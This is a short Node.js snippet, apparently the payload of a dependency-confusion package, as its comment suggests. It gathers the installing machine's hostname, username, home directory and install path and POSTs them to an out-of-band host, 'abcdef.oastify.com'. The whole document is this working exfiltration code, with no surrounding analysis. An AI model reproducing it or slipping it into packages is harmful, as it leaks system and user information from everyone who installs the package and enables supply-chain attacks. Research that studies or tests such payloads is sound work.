// after the dependency confusion packages
const os = require('os'), dns = require('dns'), https = require('https');
const info = { host: os.hostname(), user: os.userInfo().username, home: os.homedir(), dir: __dirname };
const req = https.request({ hostname: 'abcdef.oastify.com', method: 'POST', path: '/' });
req.write(JSON.stringify(info));
req.end();
